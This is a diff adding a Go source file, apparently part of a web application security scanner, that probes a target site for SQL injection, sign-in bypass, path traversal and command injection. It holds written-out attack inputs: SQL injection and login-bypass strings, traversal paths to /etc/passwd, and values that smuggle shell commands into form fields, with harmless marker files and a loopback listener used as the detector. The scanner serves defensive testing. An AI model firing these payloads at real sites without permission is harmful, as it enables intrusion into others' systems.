@@ -1,0 +1,343 @@
+package attack
+
+import (
+	"fmt"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+)
+
+// injection writes into everything that takes a text, and looks what the text became.
+func injection(r *run) {
+	trap := newTrap()
+	defer trap.close()
+	for _, p := range r.params() {
+		r.injectParameter(p, trap)
+	}
+	for _, f := range r.forms() {
+		r.injectForm(f, trap)
+	}
+	r.injectSignIn()
+	r.traversal()
+}
+
+// injectParameter tries every payload in one parameter of a GET.
+func (r *run) injectParameter(p *parameter, trap *trap) {
+	if p.by.ready() != nil {
+		return
+	}
+	route := "GET " + p.pattern
+	send := func(value string) (*answer, *Request) {
+		q := get(p.with(value)).own(r.t)
+		return p.by.fork().send(q), q
+	}
+	for _, make := range payloads {
+		n := r.mark()
+		ans, q := send(make(n))
+		r.examine(ans, n, route, q, p.by)
+		if to, ok := r.t.local(ans.location(), ans.path); ok && ans.redirects() {
+			r.examine(p.by.fork().visit(to), n, route, q, p.by)
+		}
+		r.told(n, route, q, p.by)
+	}
+	for _, c := range trap.commands(r.mark()) {
+		_, q := send(c)
+		r.sprung(trap, route, q, p.by)
+	}
+	_, q := send(trap.address(r.mark()))
+	r.sprung(trap, route, q, p.by)
+	if r.t.typed(http.MethodGet, p.path) {
+		return // its statements are constants of the program, prepared at start
+	}
+	r.sql(route, p.by, p.value, send)
+	r.wildcards(p, route, send)
+}
+
+// injectForm tries every payload in all texts of a form at once.
+func (r *run) injectForm(f *seenForm, trap *trap) {
+	r.baseline(f)
+	if f.base == nil {
+		return
+	}
+	route := "POST " + f.pattern
+	send := func(value string) (*answer, *Request) {
+		a, err := r.person(f)
+		if err != nil {
+			return nil, nil
+		}
+		g := r.fresh(f, a)
+		if g == nil {
+			return nil, nil
+		}
+		v := a.values(g, "mq0")
+		for _, d := range g.fields {
+			if d.isText() && d.kind != "password" {
+				v.Set(d.name, value)
+			}
+			if d.kind == "hidden" && !d.isToken() {
+				v.Set(d.name, d.value)
+			}
+		}
+		q := g.request(v).own(r.t)
+		return a.send(q), q
+	}
+	writes := false
+	for _, d := range f.fields {
+		writes = writes || d.isText() && d.kind != "password"
+	}
+	if !writes {
+		return
+	}
+	for _, make := range payloads {
+		n := r.mark()
+		ans, q := send(make(n))
+		if ans == nil {
+			return
+		}
+		r.examine(ans, n, route, q, f.by)
+		r.told(n, route, q, f.by)
+		for _, p := range r.showing(f, ans) {
+			r.examine(p, n, route, q, f.by)
+		}
+	}
+	for _, c := range append(trap.commands(r.mark()), trap.address(r.mark())) {
+		if ans, q := send(c); ans != nil {
+			r.sprung(trap, route, q, f.by)
+		}
+	}
+	if !r.t.typed(http.MethodPost, f.action) {
+		r.sql(route, f.by, "a", send)
+	}
+}
+
+// showing loads the pages on which what a form takes comes out.
+func (r *run) showing(f *seenForm, ans *answer) (all []*answer) {
+	if to, ok := r.t.local(ans.location(), ans.path); ok && ans.redirects() {
+		all = append(all, f.by.fork().visit(to))
+	}
+	for _, p := range f.shows {
+		all = append(all, f.by.fork().visit(p))
+	}
+	for _, v := range f.others {
+		if v.by.ready() == nil {
+			all = append(all, v.by.fork().visit(v.path))
+		}
+	}
+	return all
+}
+
+// sql tells a statement from a text: what is true in SQL is answered otherwise than what is false, what is there otherwise
+// than what is not.
+func (r *run) sql(route string, by *actor, value string, send func(string) (*answer, *Request)) {
+	if value == "" {
+		value = "a"
+	}
+	value, _ = url.QueryUnescape(value)
+	for _, pair := range [][2]string{
+		{"%s'||(SELECT '')||'", "%s'||(SELECT '' FROM mq_no_table)||'"},
+		{"%s+(SELECT 0)", "%s+(SELECT 0 FROM mq_no_table)"},
+		{"(SELECT 0),%s", "(SELECT 0 FROM mq_no_table),%s"},
+		{"(SELECT 0)", "(SELECT 0 FROM mq_no_table)"},
+	} {
+		good, _ := send(fill(pair[0], value))
+		bad, q := send(fill(pair[1], value))
+		if good == nil || bad == nil {
+			return
+		}
+		if good.status < 400 && good.status > 0 && bad.status >= 500 {
+			r.hit(RuleSQL, route, q, by, "a table that is not there makes the page fail, a statement that is right does not")
+			return
+		}
+	}
+	for _, pair := range [][2]string{
+		{"%s' AND '1'='1", "%s' AND '1'='2"},
+		{"%s%%' AND '1%%'='1", "%s%%' AND '1%%'='2"},
+		{"%s AND 1=1", "%s AND 1=2"},
+	} {
+		differs := true
+		var q *Request
+		for range 2 {
+			base, _ := send(value)
+			yes, _ := send(fill(pair[0], value))
+			no, last := send(fill(pair[1], value))
+			if base == nil || yes == nil || no == nil {
+				return
+			}
+			q = last
+			a, b, c := said(base), said(yes), said(no)
+			differs = differs && yes.status == base.status && yes.status < 400 && b == a && c != a && no.status < 500
+		}
+		if differs {
+			r.hit(RuleSQL, route, q, by, "what is true in SQL shows the page as it was, what is false shows another one")
+			return
+		}
+	}
+}
+
+func fill(pattern, value string) string {
+	if strings.Contains(pattern, "%s") {
+		return fmt.Sprintf(pattern, value)
+	}
+	return pattern
+}
+
+// said is what a page says, without attributes: there a value may be repeated.
+func said(ans *answer) string {
+	var b strings.Builder
+	fmt.Fprint(&b, ans.status, " ")
+	body := tag.ReplaceAllString(ans.body, " ")
+	for w := range strings.FieldsSeq(body) {
+		if !strings.ContainsAny(w, "'=&%") && w != "AND" && len(w) < 40 {
+			b.WriteString(w + " ")
+		}
+	}
+	return b.String()
+}
+
+var tag = regexp.MustCompile(`<[^>]*>`)
+
+// wildcards asks whether % finds everything where a word that is nowhere finds nothing.
+func (r *run) wildcards(p *parameter, route string, send func(string) (*answer, *Request)) {
+	all, _ := send("")
+	none, _ := send(r.mark())
+	some, q := send("%")
+	under, _ := send("_%_")
+	if all.status == 200 && some.status == 200 && len(all.dom(r.t).links) > len(none.dom(r.t).links) &&
+		len(some.dom(r.t).links) == len(all.dom(r.t).links) && len(under.dom(r.t).links) > len(none.dom(r.t).links) {
+		r.hit(RuleWildcard, route, q, p.by, "a search for %% lists everything, one for a word that is nowhere nothing")
+	}
+}
+
+// injectSignIn types statements where a name and a password are asked for.
+func (r *run) injectSignIn() {
+	for _, f := range r.forms() {
+		if !f.by.anonymous() || f.passwords() != 1 || r.t.typed(http.MethodPost, f.action) {
+			continue
+		}
+		for _, text := range []string{"x' OR '1'='1", "x' OR 1=1 -- ", "x' OR '1'='1' -- "} {
+			a := &actor{run: r, role: "anonymous", cookies: map[string]string{}}
+			g := r.fresh(f, a)
+			if g == nil {
+				return
+			}
+			v := g.filled("mq0x")
+			for _, d := range g.fields {
+				if d.isText() {
+					v.Set(d.name, text)
+				}
+			}
+			q := g.request(v).own(r.t)
+			a.send(q)
+			for _, p := range r.site.proof {
+				if ans := a.fork().send(get(p).own(r.t)); ans.status == http.StatusOK {
+					r.hit(RuleSQL, "POST "+f.pattern, q, a, "%q signed somebody in", text)
+					return
+				}
+			}
+		}
+	}
+}
+
+var passwd = regexp.MustCompile(`(?m)^root:[^:\n]*:0:0:`)
+
+// traversal asks for a file of the system wherever a name is taken.
+func (r *run) traversal() {
+	names := []string{"../../../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//....//....//....//....//etc/passwd",
+		"/etc/passwd", "%2fetc%2fpasswd", "..%5c..%5c..%5c..%5cetc%5cpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"}
+	for _, p := range r.params() {
+		for _, name := range names {
+			plain, err := url.PathUnescape(name)
+			if err != nil {
+				continue
+			}
+			q := get(p.with(plain)).own(r.t)
+			if ans := p.by.fork().send(q); passwd.MatchString(ans.body) {
+				r.hit(RuleTraversal, "GET "+p.pattern, q, p.by, "the parameter %s led to /etc/passwd", p.name)
+			}
+		}
+	}
+	for _, a := range r.people {
+		folders := map[string]bool{}
+		for _, p := range r.site.order[a.name()] {
+			if r.t.typed(http.MethodGet, p) {
+				continue
+			}
+			folder := bare(p)[:strings.LastIndexByte(bare(p), '/')+1]
+			if folders[folder] || !r.wants(r.t.pattern(http.MethodGet, bare(p))) {
+				continue
+			}
+			folders[folder] = true
+			for _, name := range names {
+				q := get(folder + name).own(r.t)
+				if ans := a.fork().send(q); passwd.MatchString(ans.body) {
+					r.hit(RuleTraversal, "GET "+folder, q, a, "a path led to /etc/passwd")
+				}
+			}
+		}
+	}
+}
+
+// A trap sees what a shell does and what is fetched: a folder of its own and a listener on loopback.
+type trap struct {
+	dir  string
+	addr string
+	l    net.Listener
+	mu   sync.Mutex
+	hits []string
+}
+
+func newTrap() *trap {
+	t := &trap{}
+	t.dir, _ = os.MkdirTemp("", "merlon-trap-")
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return t
+	}
+	t.l, t.addr = l, l.Addr().String()
+	go func() {
+		_ = http.Serve(l, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+			t.mu.Lock()
+			defer t.mu.Unlock()
+			t.hits = append(t.hits, r.URL.Path)
+		}))
+	}()
+	return t
+}
+
+func (t *trap) close() {
+	if t.l != nil {
+		_ = t.l.Close()
+	}
+	if t.dir != "" {
+		_ = os.RemoveAll(t.dir)
+	}
+}
+
+// commands are texts that a shell would run: each makes a file in the trap's folder.
+func (t *trap) commands(n string) []string {
+	file := filepath.Join(t.dir, n)
+	return []string{n + "$(touch " + file + ");touch " + file + " #", "'; touch " + file + "; '", "\"; touch " + file + "; \"", n + "|touch " + file}
+}
+
+func (t *trap) address(n string) string { return "http://" + t.addr + "/" + n }
+
+// sprung tells what the trap has caught, and empties it.
+func (r *run) sprung(t *trap, route string, q *Request, by *actor) {
+	if files, _ := os.ReadDir(t.dir); len(files) > 0 {
+		r.hit(RuleShell, route, q, by, "a shell ran the value: it made a file of the attacker's choice")
+		for _, f := range files {
+			_ = os.Remove(filepath.Join(t.dir, f.Name()))
+		}
+	}
+	t.mu.Lock()
+	defer t.mu.Unlock()
+	if len(t.hits) > 0 {
+		r.hit(RuleFetch, route, q, by, "the site fetched an address of its own machine: %s", t.hits[0])
+		t.hits = nil
+	}
+}
